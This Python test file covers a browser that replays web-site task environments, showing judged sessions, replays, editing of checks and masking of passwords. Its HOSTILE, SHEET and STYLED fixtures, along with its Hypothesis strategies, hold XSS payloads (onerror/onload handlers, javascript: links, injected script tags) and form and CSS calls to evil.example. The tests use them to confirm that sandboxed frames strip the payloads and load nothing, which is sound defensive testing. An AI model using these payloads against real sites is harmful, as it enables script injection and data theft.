"""The browser over the environment of a web site: judged work, pages as they were and as a replay shows them, in a frame."""

from __future__ import annotations

import html
import json
import re
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from env_builder import Environment
from env_builder.runtime.site.trees import Element
from env_builder.site.parsing import parse
from pipelines.browser import editing
from pipelines.browser.frame_styles import LINK
from pipelines.browser.framed import framed_text, screenshot
from pipelines.browser.guard import POLICY, policy
from pipelines.browser.library import Library
from pipelines.browser.picturing import pictures
from pipelines.running.run import run
from pipelines.settings import Settings
from pipelines.trying import Workbench
from tests.browser import PHONE, browser, chromium, new_page, violations  # noqa: F401
from tests.conftest import lacking
from tests.pipelines.test_browser import Server
from tests.pipelines.test_site_rooms import NAME, record
from warehouse.store import Store

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.xdist_group("browser")
HOSTILE = """<html lang="en"><head><title>A&lt;b&gt;</title><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>body { background: url(https://evil.example/x) }</style></head>
<body onload="alert(1)" style="color: red"><script>alert(2)</script>
<img src="https://evil.example/p.png" alt="a cat" onerror="alert(3)">
<a href="javascript:alert(4)">go</a><form action="https://evil.example/" method="post"><input name="q" value="tea" autofocus
 onfocus="alert(5)"><input type="hidden" name="token" value="t0ken"><input type="password" name="p" value="sesame">
<button formaction="https://evil.example/">Send</button></form><iframe src="https://evil.example/"></iframe>
<svg onload="alert(6)"><a href="https://evil.example/">s</a></svg><plain-el onclick="alert(7)">odd</plain-el></body></html>"""


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("browser_sites")
    record().write_logs(folder / "logs")
    run(Settings(logs=(str(folder / "logs"),), out=str(folder / "out"), image=False))
    return folder / "out"


@pytest.fixture(scope="module")
def server(out: Path) -> Iterator[Server]:
    started = Server(out)
    yield started
    started.stop()


def page(server: Server, path: str) -> str:
    status, headers, text = server.ask(path)
    frame_styles = [re.findall("<style>(.*?)</style>", each, re.DOTALL)[0] for each in frames(text)]
    assert status == 200 and headers["content-security-policy"] == policy(frame_styles), (path, text)
    return text


def frames(text: str) -> list[str]:
    """Return the documents of the frames of a page."""
    assert re.findall(r"<iframe[^>]*?(?= srcdoc)", text) == ['<iframe class="page" sandbox'] * text.count("<iframe")
    return [html.unescape(each) for each in re.findall(r'srcdoc="([^"]*)"', text)]


def work(out: Path) -> list[dict[str, Any]]:
    with Store.published(out / "warehouse.duckdb") as store:
        return store.table("mart.site_work").sort("session_id").to_dicts()


def task_about(out: Path, words: str) -> str:
    rows = map(json.loads, (out / "environments" / NAME / "tasks.jsonl").read_text().splitlines())
    return str(next(row["task_id"] for row in rows if words in row["goal"] and row["derived_from"] is None))


def last_step(out: Path, task_id: str, tool: str) -> int:
    rows = map(json.loads, (out / "rewards" / NAME / "solutions.jsonl").read_text().splitlines())
    steps = next(row["steps"] for row in rows if row["task_id"] == task_id)
    return max(place for place, step in enumerate(steps, 1) if step["tool"] == tool)


def test_the_environment_of_a_site_is_listed_with_its_tasks_and_judged_work(server: Server, out: Path) -> None:
    assert f'href="/environment?id={NAME}"' in page(server, "/")
    text = page(server, f"/environment?id={NAME}")
    for row in work(out):
        assert f"/session?id={row['session_id']}" in text
        assert row["task_id"] is None or f"/task?id={row['task_id']}" in text
    assert text.count('<span class="chip good">right</span>') == 12 and text.count('<span class="chip bad">wrong</span>') == 1
    assert "browser_click" in text and "files_move" in text
    assert "changes nothing here: no request of somebody who was not logged in" in text


def test_a_session_says_who_asked_what_was_wrong_and_shows_its_pages(server: Server, out: Path) -> None:
    wrong = next(row for row in work(out) if row["is_right"] is False)
    text = page(server, f"/session?id={wrong['session_id']}")
    assert "lens 103 is gone" in text and f"<dd>{wrong['asked_by']}</dd>" in text and wrong["asked_by"] != wrong["person"]
    assert '<span class="chip bad">wrong</span>' in text and wrong["broken"][0] in text and "It became no task" in text
    n_requests = int(re.findall(r"Request 1 of (\d+)", text)[0])
    documents = [document for step in range(1, n_requests + 1) for document in frames(
        page(server, f"/session?id={wrong['session_id']}&step={step}"))]
    assert any("lens" in document for document in documents) and not any("sesame" in document for document in documents)
    assert server.ask(f"/session?id={wrong['session_id']}&step=999")[0] == 404


def test_a_session_shows_files_and_messages_beside_its_pages(server: Server, out: Path) -> None:
    filed = next(row for row in work(out) if row["task_id"] == task_about(out, "card 102"))
    text = page(server, f"/session?id={filed['session_id']}")
    listed = re.findall(r'<span class="chip">([a-z]+)</span> ([^<]*)', text)
    assert [kind for kind, _ in listed] == ["file", "file", "message"], listed
    assert "to /srv/2026-01/102.pdf" in listed[1][1] and listed[2][1].startswith("Filed in 2026-01: 102.pdf")
    n_requests = re.findall(r"Request 1 of (\d+)", text)[0]
    last = page(server, f"/session?id={filed['session_id']}&step={n_requests}")
    assert "<b>message</b> Filed in 2026-01: 102.pdf" in last


def test_a_solution_is_replayed_page_by_page_beside_files_and_messages(server: Server, out: Path) -> None:
    task = task_about(out, "card 102")
    text = page(server, f"/task?id={task}")
    assert "Each file is the document that was downloaded for it" in text and f"/replay?id={task}" in text
    assert "Change this check" in text and "silent" in text
    moved = page(server, f"/replay?id={task}&way=solution&step={last_step(out, task, 'files_move')}")
    assert "files:file/srv/2026-01/102.pdf" in moved and len(frames(moved)) == 1
    clicked = page(server, f"/replay?id={task}&way=solution&step={last_step(out, task, 'browser_click')}")
    assert "It acts on <b>link &#34;" in clicked and f"<a {LINK}" in frames(clicked)[0]
    whole = page(server, f"/replay?id={task}&way=solution")
    assert "chat:message/" in whole and "reward 1" in whole and len(frames(whole)) == 1
    assert server.ask(f"/compare?id={task}&with=solution")[0] == 200


def test_a_check_of_a_site_is_tried_changed_and_kept_by_the_next_run(out: Path, tmp_path: Path) -> None:
    shutil.copytree(out.parent, tmp_path / "copy")
    logs, copy = tmp_path / "copy" / "logs", tmp_path / "copy" / "out"
    library, task = Library(copy), task_about(copy, "card 102")
    shown = editing.edit_page(library, task, "listed", "")
    assert shown["check"].kind == "listed" and not shown["is_corrected"]
    form = {**shown["fields"], "id": task, "check": "listed", "role": "diagnostic", "by": "ann", "why": "nobody reads it"}
    tried = editing.try_edit(Workbench(library), library, copy / "corrections", form)
    assert (tried.n_tasks, tried.n_tried) == (1, 1) and tried.trials[0].verified_before
    assert not tried.trials[0].verified_after, "the note need not be right any more"
    editing.keep_edit(library, copy / "corrections", form | {"weight": "2", "role": "gate"}, datetime.now(UTC))
    run(Settings(logs=(str(logs),), out=str(copy), image=False))
    roles = {check["check_id"]: (check["role"], check["weight"]) for row in map(
        json.loads, (copy / "rewards" / NAME / "rubrics.jsonl").read_text().splitlines()) if row["task_id"] == task
        for check in row["checks"]}
    assert roles["listed"] == ("gate", 2.0) and roles["state"] == ("gate", 1.0)
    assert editing.edit_page(Library(copy), task, "listed", "")["is_corrected"]
    with Store.published(copy / "warehouse.duckdb") as store:
        rows = store.read("select stage, reason, kept from mart.decisions where reason like '%check%'").rows()
    assert rows == [("site_rooms", "check_corrected", True)]


def test_what_is_typed_stands_in_the_page_and_a_password_does_not(server: Server, out: Path) -> None:
    task = task_about(out, "comment on card 101")
    rows = map(json.loads, (out / "rewards" / NAME / "solutions.jsonl").read_text().splitlines())
    typed = [(place, step["arguments"]["text"]) for place, step in enumerate(next(
        row["steps"] for row in rows if row["task_id"] == task), 1) if step["tool"] == "browser_type"]
    shown = {text: frames(page(server, f"/replay?id={task}&way=solution&step={place}"))[0] for place, text in typed}
    assert "lens 101 is dull" in shown["lens 101 is dull"]
    secret = next(text for _, text in typed if re.fullmatch(r"[0-9a-f]{10}", text))
    assert secret not in shown[secret] and "•" * 10 in shown[secret]


def test_a_hostile_page_is_words_alone() -> None:
    document = framed_text(parse(HOSTILE)).html
    for word in ("evil", "alert", "sesame", "t0ken", " style=", "<img", "<svg", "href", "action", "autofocus", "plain-el"):
        assert word not in document, word
    for word in ("A&lt;b&gt;", "[a cat]", f'<a {LINK}="">go</a>', 'value="tea"', "Send", "odd"):
        assert word in document, word


NAMES = st.sampled_from(("a", "body", "div", "form", "iframe", "img", "input", "object", "option", "script", "select", "style",
                         "svg", "table", "template", "textarea", "x-y", "xmp"))
ATTRIBUTES = st.dictionaries(
    st.sampled_from(("action", "alt", "checked", "href", "id", "onclick", "src", "srcdoc", "style", "type", "value")),
    st.sampled_from(("", "javascript:alert(1)", '"><script>', "hidden", "password", "tea")), max_size=3)


@given(st.recursive(st.sampled_from(("<script>x</script>", "a & b", "")), lambda below: st.builds(
    Element, NAMES, ATTRIBUTES, st.lists(below, max_size=4)), max_leaves=20))
def test_no_tree_makes_a_frame_act_or_load(below: Element | str) -> None:
    document = parse(framed_text(Element("html", {}, [Element("body", {}, [below])])).html)
    body = next(each for each in document.elements() if each.tag == "body")
    for element in body.elements():
        assert element.tag not in ("iframe", "img", "object", "script", "style", "svg", "template", "x-y", "xmp")
        assert not element.attributes.keys() & {"action", "href", "onclick", "src", "srcdoc", "style"}


def test_an_answer_that_is_an_image_is_shown_as_one() -> None:
    assert screenshot("iVBORw0KGgoAAAANSUhEUg==") == "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="
    for content in (None, "", "iVBORw0KGgo", 'iVBORw0KGgoAAAA" onload', "### Page", "/9j/<b>x"):
        assert screenshot(content) is None, content


@pytest.mark.slow
def test_pages_of_a_site_are_accessible_run_nothing_and_fit_a_phone(server: Server, out: Path, browser: Browser) -> None:  # noqa: F811
    task, session, said = task_about(out, "card 102"), work(out)[0]["session_id"], list[str]()
    step = last_step(out, task, "browser_click")
    paths = ("/", f"/environment?id={NAME}", f"/task?id={task}", f"/session?id={session}&step=1",
             f"/replay?id={task}&way=solution&step={step}")
    for told in ({}, {"color_scheme": "dark"}, {"viewport": PHONE}):
        tab = new_page(browser, said, **told)
        for path in paths:
            tab.goto(f"http://127.0.0.1:{server.port}{path}")
            wide = tab.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert wide <= 0 or "viewport" not in told, path
            assert violations(tab) == [], path
        tab.frame_locator("iframe").locator("body").wait_for()
        tab.context.close()
    assert said == []


SHEET = """@charset "utf-8"; @import url(https://evil.example/a.css); @font-face { font-family: x; src: url(/x.woff) }
/* url(https://evil.example/b) */
.box { background: url("https://evil.example/c.png") red; color: url(data:image/png;base64,aa) }
a[href^="x"], a:link { color: green } @media print { .box { display: none } } .late { content: "</style><script>"; """
STYLED = """<link rel=stylesheet href="/static/own.css?v=3"><link rel=stylesheet href="other.css" media="print">
<link rel=stylesheet href="/missing.css"><style>p { color: blue }</style>
<p class=box id=here style="color: red; background: url(https://evil.example/d)">Words <a href=/x>lead</a></p>"""


def test_a_frame_has_recorded_styles_that_load_nothing() -> None:
    shown = framed_text(parse(STYLED), "/pages/one", {"/static/own.css": SHEET, "/pages/other.css": ".box { color: pink }"})
    assert shown.n_sheets == 2 and "evil" not in shown.html and "url(/x" not in shown.html and "@import" not in shown.html
    assert "url(data:image/png;base64,aa)" in shown.style and f"a[{LINK}]" in shown.style and "[href" not in shown.style
    assert "@media print { .box { color: pink } }" in shown.style and "p { color: blue }" in shown.style
    assert "color: red" in shown.style and 'class="box"' in shown.html and 'id="here"' in shown.html
    assert re.findall("<style>(.*?)</style>", shown.html, re.DOTALL) == [shown.style], "no sheet ends the element"


@given(st.text("@import url('\"){}[]/*\\<>style;:hrefdata,\r\n\0\u202e", max_size=60))
def test_no_sheet_changes_what_is_hashed_or_ends_the_style(text: str) -> None:
    page = parse('<link rel=stylesheet href="/s.css"><p style="x">Words</p>')
    shown = framed_text(page, "/", {"/s.css": text})
    styles = [each for each in parse(shown.html).elements() if each.tag == "style"]
    assert ["".join(map(str, each.children)) for each in styles] == [shown.style]
    assert "Words" in shown.html and not any(each.tag == "script" for each in parse(shown.html).elements())


def test_the_policy_of_a_page_names_the_styles_of_its_frames_alone() -> None:
    assert policy() == POLICY and policy(["a"]) != policy(["b"])
    assert policy(["a"]).replace(" 'sha256-ypeBEsobvcr6wjGzmiPcTaeG7/gUfE5yuYB3ha/uSLs='", "") == POLICY


@pytest.mark.slow
def test_a_browser_shows_a_frame_in_its_styles_and_asks_nobody_for_anything(server: Server, browser: Browser) -> None:  # noqa: F811
    sheets = {"/static/own.css": SHEET + ' } @import url("http://127.0.0.1:1/e.css"); .box { background: \\75rl(/leak.png) }'}
    shown = framed_text(parse(STYLED + "<script>document.title = 'ran'</script>"), "/pages/one", sheets)
    document = (f'<meta http-equiv="Content-Security-Policy" content="{policy([shown.style]).split("; frame-anc")[0]}">'
                f'<iframe sandbox srcdoc="{html.escape(shown.html)}"></iframe>')
    asked: list[str] = []
    tab = browser.new_page()
    tab.on("request", lambda request: asked.append(request.url))
    tab.route("**/framed", lambda route: route.fulfill(body=document, content_type="text/html"))
    tab.goto(f"http://127.0.0.1:{server.port}/framed")
    words = tab.frame_locator("iframe").locator("p")
    words.wait_for()
    assert [words.evaluate("each => getComputedStyle(each).color"),
            words.locator("a").evaluate("each => getComputedStyle(each).color")] == ["rgb(255, 0, 0)", "rgb(0, 128, 0)"]
    assert [url for url in asked if url.startswith("http")] == [f"http://127.0.0.1:{server.port}/framed"]
    tab.close()


def test_a_replay_in_chromium_has_a_picture_of_each_page(server: Server, out: Path) -> None:
    if chromium() is None:
        lacking("no browser is there")
    task = task_about(out, "card 102")
    n_steps = last_step(out, task, "chat_post")
    text = page(server, f"/replay?id={task}&way=solution&chromium=yes")
    pictures = re.findall(r'alt="Screenshot of step (\d+)"', text)
    rows = map(json.loads, (out / "rewards" / NAME / "solutions.jsonl").read_text().splitlines())
    steps = next(row["steps"] for row in rows if row["task_id"] == task)
    assert [int(each) for each in pictures] == [place for place, step in enumerate(steps, 1)
                                                if step["tool"].startswith("browser_")] and n_steps > len(pictures) > 3
    images = re.findall(r'src="data:image/png;base64,([^"]+)"', text)
    assert len(set(images)) > 3, "pages differ"
    assert "Screenshot of step" not in page(server, f"/replay?id={task}&way=solution")


def test_what_chromium_cannot_follow_is_drawn_from_the_page_of_the_environment(out: Path) -> None:
    if chromium() is None:
        lacking("no browser is there")
    environment = Environment.load(out / "environments" / NAME)
    task = task_about(out, "comment on card 101")
    shown, asked = (environment.replaying(task) for _ in range(2))
    shown.call("browser_navigate", {"url": "/login/"})
    moves = [{"tool": "browser_type", "arguments": {"target": 'role=textbox[name="Who"]', "text": "ivo"}},
             {"say": "one moment"}, {"tool": "browser_navigate", "arguments": {"url": "/login/"}}]
    typed, said, later = pictures(shown, asked, moves, {})
    assert said is None and typed is not None and later is not None, "a message shows no page"
    assert typed.is_drawn and later.is_drawn and screenshot(typed.png) and typed.png != later.png
